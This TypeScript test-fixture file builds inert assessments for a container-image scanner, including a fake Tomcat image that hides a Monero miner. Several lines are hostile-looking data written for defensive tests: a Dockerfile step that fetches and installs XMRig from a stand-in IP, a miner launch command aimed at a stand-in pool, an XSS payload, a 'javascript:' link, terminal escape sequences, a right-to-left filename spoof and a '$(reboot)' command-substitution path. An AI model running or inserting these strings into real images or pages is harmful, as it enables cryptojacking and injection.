import type { Assessment, LayerSummary } from '../src/assess/assessment.ts';
import { decide } from '../src/assess/policy/decide.ts';
import { DEFAULT_POLICY } from '../src/assess/policy/default-policy.ts';
import { type Digest, digestOf } from '../src/base/digest.ts';
import type { RuleInfo } from '../src/detect/detector.ts';
import type { Finding } from '../src/detect/finding.ts';
import type { Explanation, Instruction, StartStep } from '../src/explain/explanation.ts';
import { LINK_NAMES } from '../src/trace/index.ts';

/**
 * Assessments made by hand, for the tests of reports and of the command line. Everything in them is inert.
 */

export function testDigest(seed: string): Digest {
  return digestOf(Buffer.from(seed));
}

interface Line {
  readonly text: string;
  /**
   * Uncompressed bytes of the layer that it made; none for an instruction that only changes the
   * configuration.
   */
  readonly size?: number;
  readonly files?: number;
  readonly removed?: number;
  readonly note?: string;
}

interface Parts {
  readonly reference: string;
  readonly lines: readonly Line[];
  readonly findings?: Assessment['findings'];
  readonly startChain?: readonly StartStep[];
  readonly image?: Partial<Assessment['image']>;
  readonly coverage?: Partial<Assessment['coverage']>;
  readonly base?: Explanation['base'];
  readonly notes?: readonly string[];
  readonly suppressed?: Assessment['suppressed'];
  readonly suppressionNotes?: readonly string[];
  readonly baseline?: NonNullable<Assessment['baseline']>;
}

/** Puts an assessment together; the verdict is the built-in policy's on the findings given. */
export function testAssessment(parts: Parts): Assessment {
  let next = 0;
  const instructions: Instruction[] = parts.lines.map((line, row) => ({
    text: line.text,
    keyword: line.text.split(' ', 1)[0] ?? '',
    row,
    certainty: line.note === undefined ? 'normalised' : 'contradicted',
    ...(line.size === undefined ? {} : { layer: next++ }),
    ...(line.note === undefined ? {} : { note: line.note }),
  }));
  const layers = parts.lines
    .filter((line) => line.size !== undefined)
    .map((line, index): LayerSummary => layerOf(parts.reference, line, index));
  const findings = parts.findings ?? [];
  const coverage = {
    complete: true,
    layers: layers.length,
    layersRead: layers.length,
    files: layers.reduce((sum, layer) => sum + layer.files, 0),
    bytes: layers.reduce((sum, layer) => sum + (layer.size ?? 0), 0),
    unread: [],
    unopened: { count: 0, examples: [] },
    ...parts.coverage,
  };
  return {
    image: {
      reference: parts.reference,
      digest: testDigest(parts.reference),
      hasManifest: true,
      platform: { os: 'linux', architecture: 'amd64' },
      created: '2018-05-01T10:00:00Z',
      user: 'root',
      exposedPorts: [],
      labels: {},
      size: layers.reduce((sum, layer) => sum + (layer.compressedSize ?? 0), 0),
      attestations: 0,
      ...parts.image,
    },
    verdict: decide(findings, coverage, DEFAULT_POLICY, {
      suppressed: parts.suppressed?.length ?? 0,
    }),
    findings,
    suppressed: parts.suppressed ?? [],
    suppressionNotes: parts.suppressionNotes ?? [],
    ...(parts.baseline === undefined ? {} : { baseline: parts.baseline }),
    coverage,
    layers,
    explanation: {
      instructions,
      instructionOfLayer: instructions.filter((one) => one.layer !== undefined),
      base: parts.base ?? { claimedBy: 'none' },
      dockerfile: `${instructions.map((one) => one.text).join('\n')}\n`,
      startChain: parts.startChain ?? [],
      notes: parts.notes ?? [],
    },
    trace: TRACE,
    rules: [...findings, ...(parts.suppressed ?? []).map(({ finding }) => finding)].map(ruleOf),
  };
}

const TRACE: Assessment['trace'] = {
  level: 'T0',
  links: LINK_NAMES.map((name) => {
    if (name === 'bytes') {
      return {
        name,
        status: 'verified',
        evidence: [],
        reason: 'Every layer has the digest that the manifest names.',
      };
    }
    if (name === 'history') {
      return {
        name,
        status: 'contradicted',
        evidence: ['3 rows', '2 layers'],
        reason: 'They differ in number.',
      };
    }
    return { name, status: 'missing', evidence: [], reason: `No ${name} was looked at.` };
  }),
};

function layerOf(reference: string, line: Line, index: number): LayerSummary {
  const size = line.size ?? 0;
  return {
    index,
    digest: testDigest(`${reference} ${index}`),
    diffId: testDigest(`${reference} ${index} tar`),
    mediaType: 'application/vnd.oci.image.layer.v1.tar+gzip',
    compressedSize: Math.floor(size / 3),
    size,
    instruction: line.text,
    files: line.files ?? 1,
    added: line.files ?? 1,
    changed: 0,
    removed: line.removed ?? 0,
  };
}

function ruleOf(finding: Finding): RuleInfo {
  return {
    id: finding.rule,
    title: finding.title,
    category: finding.category,
    description: `What ${finding.rule} looks for. ${finding.why}`,
    ...(finding.attack === undefined ? {} : { attack: finding.attack }),
  };
}

const DEBIAN: Line = { text: 'ADD file:3d1f0a7c9b in /', size: 77_900_000, files: 3204 };

/** Nothing wrong with it. */
export function honestAssessment(): Assessment {
  return testAssessment({
    reference: 'registry.example.com/team/hello:1.4',
    image: {
      created: '2026-09-12T08:30:00Z',
      distribution: 'Debian GNU/Linux 12 (bookworm)',
      user: 'www-data',
      exposedPorts: ['8080/tcp'],
      labels: { 'org.opencontainers.image.source': 'https://git.example.com/team/hello' },
    },
    base: { name: 'docker.io/library/debian:bookworm-slim', claimedBy: 'annotation' },
    lines: [
      DEBIAN,
      { text: 'CMD ["bash"]' },
      {
        text: 'RUN apt-get update && apt-get install -y --no-install-recommends nginx',
        size: 21_000_000,
        files: 410,
      },
      { text: 'COPY site/ /srv/site', size: 48_000, files: 12 },
      { text: 'USER www-data' },
      { text: 'ENTRYPOINT ["/usr/sbin/nginx", "-g", "daemon off;"]' },
    ],
    coverage: {
      unopened: { count: 1, examples: ['/usr/share/nginx/x.7z'] },
      nested: { archives: 31, files: 40, bytes: 900_000 },
      opaque: {
        bytes: 4096,
        listed: [
          {
            path: 'usr/share/nginx/x.7z',
            layer: 1,
            reason: 'unsupported-compression',
            detail: '7z is not read',
            bytes: 4096,
          },
        ],
      },
    },
    startChain: [
      {
        what: '/usr/sbin/nginx',
        command: '/usr/sbin/nginx -g "daemon off;"',
        kind: 'elf',
        path: '/usr/sbin/nginx',
        file: 'ENTRYPOINT',
        layer: 1,
        instruction: 'RUN apt-get update && apt-get install -y --no-install-recommends nginx',
        children: [],
      },
    ],
  });
}

/** Not from a checksum: forty characters that no wallet software would take. */
const TEST_WALLET = `4${'TESTWALLET'.repeat(4)}`;

/** Poses as tomcat, mines. */
export function minerAssessment(): Assessment {
  const pool = 'pool.example.com:3333';
  return testAssessment({
    reference: 'docker.io/docker123321/tomcat:latest',
    image: { distribution: 'Debian GNU/Linux 9 (stretch)', exposedPorts: ['8080/tcp'] },
    base: { name: 'docker.io/library/tomcat:8', claimedBy: 'label' },
    lines: [
      DEBIAN,
      { text: 'ENV CATALINA_HOME=/usr/local/tomcat' },
      {
        text: 'RUN apt-get update && apt-get install -y --no-install-recommends openjdk-8-jre-headless curl && rm -rf /var/lib/apt/lists/*',
        size: 190_000_000,
        files: 1411,
      },
      { text: 'COPY file:0c1d in /usr/local/tomcat/bin/catalina.sh', size: 24_000, files: 1 },
      {
        text: `RUN curl -fsSL http://203.0.113.7/xmrig -o /usr/local/bin/cron && chmod +x /usr/local/bin/cron`,
        size: 5_400_000,
        files: 2,
      },
      { text: 'RUN rm -f /root/config.json', size: 512, files: 0, removed: 1 },
      { text: 'EXPOSE 8080' },
      { text: 'CMD ["catalina.sh", "run"]' },
    ],
    findings: [
      {
        rule: 'miner/binary',
        title: 'A Monero miner is in the image',
        category: 'miner',
        severity: 'critical',
        confidence: 'certain',
        why: 'The program at /usr/local/bin/cron is XMRig under another name; it would mine for whoever made the image, with your processors and on your bill.',
        fix: 'Do not run this image. Where it already ran, stop its containers and look for processes that outlived them.',
        attack: 'T1496.001',
        evidence: [
          {
            path: '/usr/local/bin/cron',
            layer: 3,
            offset: 1_048_576,
            excerpt: 'XMRig 6.21.0 built on … donate-level cryptonight randomx',
          },
          {
            path: '/usr/local/tomcat/bin/catalina.sh',
            layer: 2,
            line: 14,
            excerpt: `nohup /usr/local/bin/cron -o stratum+tcp://${pool} -u ${TEST_WALLET} &`,
          },
        ],
      },
      {
        rule: 'pool/known',
        title: 'A mining pool is contacted at start',
        category: 'pool',
        severity: 'high',
        confidence: 'high',
        why: 'The start script hands the address of a mining pool to a program.',
        fix: 'Block the address on your network.',
        evidence: [
          {
            path: '/usr/local/tomcat/bin/catalina.sh',
            layer: 2,
            line: 14,
            excerpt: `-o stratum+tcp://${pool}`,
          },
        ],
        indicators: [{ kind: 'pool', value: pool, validation: 'known pool domain' }],
      },
      {
        rule: 'hidden/removed',
        title: 'A configuration file for a miner was removed again',
        category: 'hidden',
        severity: 'medium',
        confidence: 'high',
        why: 'A later layer hides it from the container, but the image still carries it.',
        fix: 'Read the file in its layer.',
        evidence: [
          {
            path: '/root/config.json',
            layer: 3,
            line: 1,
            excerpt: `{"url": "${pool}", "user": "${TEST_WALLET}"}`,
            goneIn: 4,
          },
        ],
      },
      {
        rule: 'start/root',
        title: 'The container runs as root',
        category: 'start',
        severity: 'info',
        confidence: 'certain',
        why: 'Nothing in the configuration names another user.',
        fix: 'Set USER.',
        evidence: [{ path: 'CMD', excerpt: 'catalina.sh run' }],
      },
    ],
    startChain: [
      {
        what: '/usr/local/tomcat/bin/catalina.sh',
        command: 'catalina.sh run',
        kind: 'script',
        path: '/usr/local/tomcat/bin/catalina.sh',
        file: 'CMD',
        layer: 2,
        instruction: 'COPY file:0c1d in /usr/local/tomcat/bin/catalina.sh',
        children: [
          {
            what: 'export',
            command: 'export CATALINA_BASE="$CATALINA_HOME"',
            kind: 'builtin',
            file: '/usr/local/tomcat/bin/catalina.sh',
            line: 3,
            layer: 2,
            children: [],
          },
          {
            what: '/usr/local/bin/cron',
            command: `nohup /usr/local/bin/cron -o stratum+tcp://${pool} -u ${TEST_WALLET} &`,
            kind: 'elf',
            path: '/usr/local/bin/cron',
            file: '/usr/local/tomcat/bin/catalina.sh',
            line: 14,
            layer: 3,
            when: 'if [ ! -f /tmp/.lock ]',
            taken: true,
            children: [],
          },
          {
            what: 'java',
            command: 'exec "$JAVA_HOME/bin/java" $JAVA_OPTS "$@"',
            kind: 'missing',
            file: '/usr/local/tomcat/bin/catalina.sh',
            line: 20,
            layer: 2,
            unknown: '$JAVA_HOME is not set in the image',
            children: [],
          },
        ],
      },
    ],
  });
}

/** The miner again, of which most does not count: by the ignore file, the baseline and as the base image's. */
export function suppressedAssessment(): Assessment {
  const { image, findings } = minerAssessment();
  const [binary, pool, removed, root] = findings as [Finding, Finding, Finding, Finding];
  return testAssessment({
    reference: image.reference,
    lines: [
      DEBIAN,
      { text: 'COPY a b', size: 1000 },
      { text: 'RUN x', size: 9 },
      { text: 'RUN y', size: 9 },
      { text: 'RUN z', size: 9 },
    ],
    findings: [{ ...root, baselineState: 'new' }],
    suppressed: [
      {
        finding: { ...binary, baselineState: 'unchanged' },
        by: 'ignore-file',
        source: 'ignore.yaml, line 3',
        reason: 'our test bed',
        until: '2027-01-31',
      },
      {
        finding: { ...pool, baselineState: 'unchanged' },
        by: 'baseline',
        source: 'old.json',
        reason: 'It was there before, and is no worse now.',
      },
      {
        finding: { ...removed, baselineState: 'new' },
        by: 'base-image',
        source: 'docker.io/library/tomcat:8',
        reason: 'All its evidence lies in layers that this image is known to have as its base.',
      },
    ],
    suppressionNotes: ['ignore.yaml, line 9 (access/*): no longer counts, because it expired on 2026-10-01.'],
    baseline: {
      source: 'old.json',
      new: 2,
      updated: 0,
      unchanged: 2,
      absent: [
        {
          ...removed,
          rule: 'hidden/gone',
          title: 'Something that is gone',
          evidence: [{ path: '/gone', excerpt: 'x' }],
        },
      ],
    },
  });
}

/**
 * What no report may let through as it is: escape sequences, bidi, Markdown, HTML, very long and very wide
 * text.
 */
export const HOSTILE = [
  '\x1b[2J\x1b]0;owned\x07',
  '\u202egnp.exe\u202c',
  'a\u200bb\ufeff\u2066c\u2069',
  '`code` ``two`` ```three``` | cell | <img src=x onerror=alert(1)> [link](javascript:alert(1)) **bold** # h',
  '\r\n## A heading of its own\n\n```\nfence\n```\n',
  '@someone #123 https://example.com/?a=1&b=2 www.example.com',
  '\ud800 lone \udc00',
  '界'.repeat(200),
  `e${'\u0301'.repeat(50)}`,
  'x'.repeat(10_000),
].join(' ');

/** Every text that an image controls is hostile, and the layout is at its limits. */
export function hostileAssessment(): Assessment {
  const deep = Array.from({ length: 60 }).reduce<readonly StartStep[]>(
    (children, _, i) => [
      {
        what: HOSTILE,
        command: HOSTILE,
        kind: 'script',
        path: `/${HOSTILE}`,
        file: `/${HOSTILE}`,
        line: i + 1,
        layer: 0,
        when: HOSTILE,
        unknown: HOSTILE,
        children,
      },
    ],
    [],
  );
  return testAssessment({
    reference: `registry.example.com/${'very-long-name/'.repeat(12)}app:latest`,
    image: {
      distribution: HOSTILE,
      author: HOSTILE,
      created: HOSTILE,
      user: HOSTILE,
      exposedPorts: [HOSTILE, '80/tcp'],
      labels: { [HOSTILE]: HOSTILE },
    },
    base: { name: HOSTILE, digest: HOSTILE, claimedBy: 'label' },
    notes: [HOSTILE],
    lines: [
      { text: `RUN ${HOSTILE}`, size: 1_000_000, note: HOSTILE },
      ...Array.from({ length: 100 }, (_, i) => ({ text: `ENV ${i} ${HOSTILE.slice(0, 300)}` })),
    ],
    findings: [
      {
        rule: 'hidden/hostile',
        title: `Hostile ${HOSTILE}`,
        category: 'hidden',
        severity: 'high',
        confidence: 'medium',
        why: HOSTILE,
        fix: HOSTILE,
        attack: 'T1027',
        evidence: [
          { path: `/${HOSTILE}`, layer: 0, line: 3, excerpt: HOSTILE, goneIn: 0 },
          { path: 'ENV', excerpt: HOSTILE },
          { path: "/-weird 'name' $(reboot)", layer: 0, offset: 4, excerpt: 'x' },
        ],
        indicators: [{ kind: 'url', value: HOSTILE, validation: HOSTILE }],
      },
    ],
    startChain: deep,
    coverage: {
      complete: false,
      unread: [
        { reason: 'tar-damaged', layer: 0, path: HOSTILE, detail: HOSTILE },
        { reason: 'layer-missing', layer: 0, detail: HOSTILE },
        { reason: 'detector-failed', detail: HOSTILE },
      ],
      unopened: { count: 2, examples: [`/${HOSTILE}`] },
      nested: { archives: 1, files: 1, bytes: 1 },
      opaque: {
        bytes: 9,
        listed: [{ layer: 0, path: HOSTILE, reason: 'encrypted', detail: HOSTILE, bytes: 9 }],
      },
    },
  });
}
